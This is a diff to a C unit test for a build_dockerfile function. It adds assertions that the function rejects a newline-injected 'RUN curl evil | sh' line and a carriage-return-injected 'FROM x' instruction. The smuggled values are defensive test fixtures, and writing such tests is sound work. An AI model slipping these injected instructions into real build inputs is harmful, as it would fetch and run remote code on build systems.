@@ -72,6 +72,8 @@ static void names_and_dockerfile(void **state)
                             "ENV TELO_CACHE_DIR=/telo-cache\n"
                             "RUN telo install /app/app/telo.yaml\n");
     free(df);
+    assert_null(build_dockerfile("b", "app.yaml\nRUN curl evil | sh"));
+    assert_null(build_dockerfile("b\rFROM x", "app.yaml"));
 }
 
 static void job_from_a_configmap_bundle(void **state)
